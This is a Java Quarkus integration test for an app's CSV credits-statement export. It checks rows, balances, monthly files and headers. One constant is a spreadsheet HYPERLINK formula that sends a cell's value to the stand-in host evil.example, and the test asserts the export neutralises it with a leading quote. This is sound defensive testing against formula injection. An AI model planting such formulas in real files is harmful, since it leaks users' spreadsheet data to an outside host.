package app.inbetween.statement;

import static app.inbetween.statement.Reader.csv;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;

import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.inject.Inject;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import app.inbetween.SettableClock;
import app.inbetween.account.People;
import app.inbetween.ledger.Bookkeeper;
import app.inbetween.ledger.Correction;
import app.inbetween.ledger.Grant;
import app.inbetween.ledger.Ledger;
import app.inbetween.ledger.LedgerAssertions;
import app.inbetween.price.Credits;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;

@QuarkusTest
class StatementFileTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Shot 1\")";

    @Inject
    People people;
    @Inject
    Ledger ledger;
    @Inject
    Bookkeeper books;
    @Inject
    SettableClock clock;

    @BeforeEach
    void stopTheClock() {
        clock.set(Instant.parse("2026-10-31T23:59:59Z"));
    }

    @AfterEach
    void resetTheClock() {
        clock.reset();
        LedgerAssertions.assertNoViolations();
    }

    @Test
    @TestSecurity(user = "file ben")
    void theFileTellsEverythingAndLeadsToTheBalance() {
        UUID me = people.signedInAs("file ben").id;
        UUID ada = people.register("ada, \"the\" boss").id;
        clock.set(Instant.parse("2026-11-01T08:00:00Z"));
        UUID clip = UUID.randomUUID();
        UUID quote = books.hold(me, clip, 6, FORMULA).quote().orElseThrow();
        books.capture(clip, Credits.ofMillis(2500), "the film came out shorter");
        ledger.refund(clip, Correction.of(Credits.of(1), "-1 for the\nlast frame", UUID.randomUUID().toString()).by(ada));

        List<Map<String, String>> rows = csv("/credits/statement.csv");

        assertThat(rows).extracting(row -> row.get("What")).containsExactly("Granted", "Held", "Spent", "Given back");
        assertThat(rows.get(0)).containsEntry("Time", "2026-10-31T23:59:59Z").containsEntry("Date", "2026-10-31")
                .containsEntry("Reason", "Welcome to Inbetween").containsEntry("Change of free", "100")
                .containsEntry("Title", "").containsEntry("Entry", "1");
        assertThat(rows.get(1)).containsEntry("Title", "'" + FORMULA).containsEntry("Model", "local/flow")
                .containsEntry("Resolution", "720p").containsEntry("Seconds", "6").containsEntry("Amount", "6")
                .containsEntry("Change of free", "-6").containsEntry("Free after", "94").containsEntry("Held after", "6")
                .containsEntry("Generation", clip.toString()).containsEntry("Quote", quote.toString())
                .containsEntry("Price version", "1").containsEntry("Reason", "");
        assertThat(rows.get(2)).containsEntry("Change of free", "3.5").containsEntry("Amount", "2.5")
                .containsEntry("Spent after", "2.5").containsEntry("Reason", "the film came out shorter");
        assertThat(rows.get(3)).containsEntry("By", "ada, \"the\" boss").containsEntry("Reason", "'-1 for the\nlast frame")
                .containsEntry("Free after", ledger.balance(me).available().decimal().toPlainString());
        assertThat(sum(rows)).isEqualByComparingTo(ledger.balance(me).available().decimal());
    }

    @Test
    @TestSecurity(user = "file months")
    void aMonthIsAFileOfItsOwn() {
        UUID me = people.signedInAs("file months").id;
        clock.set(Instant.parse("2026-11-01T00:00:00Z"));
        ledger.grant(Grant.of(me, Credits.of(5), "November", UUID.randomUUID().toString()));

        assertThat(csv("/credits/statement.csv?month=2026-10")).extracting(row -> row.get("Reason"))
                .containsExactly("Welcome to Inbetween");
        assertThat(csv("/credits/statement.csv?month=2026-11")).extracting(row -> row.get("Reason"))
                .containsExactly("November");
        assertThat(csv("/credits/statement.csv?month=2026-09")).isEmpty();
        given().get("/credits/statement.csv?month=2026-11").then().contentType("text/csv;charset=UTF-8")
                .header("Content-Disposition", containsString("inbetween-credits-2026-11.csv"));
        given().get("/credits/statement.csv?month=soon").then().statusCode(404);
    }

    @Test
    @TestSecurity(user = "file long")
    void aLongFileHasEveryMovementOnce() {
        UUID me = people.signedInAs("file long").id;
        for (int n = 0; n < 620; n++) {
            ledger.grant(Grant.of(me, Credits.ofMillis(1 + n), "Grant " + n, UUID.randomUUID().toString()));
        }

        List<Map<String, String>> rows = csv("/credits/statement.csv");

        assertThat(rows).extracting(row -> Integer.valueOf(row.get("Entry"))).isSorted().hasSize(621).doesNotHaveDuplicates();
        assertThat(sum(rows)).isEqualByComparingTo(ledger.balance(me).available().decimal());
    }

    private static BigDecimal sum(List<Map<String, String>> rows) {
        return rows.stream().map(row -> new BigDecimal(row.get("Change of free"))).reduce(BigDecimal.ZERO, BigDecimal::add);
    }
}
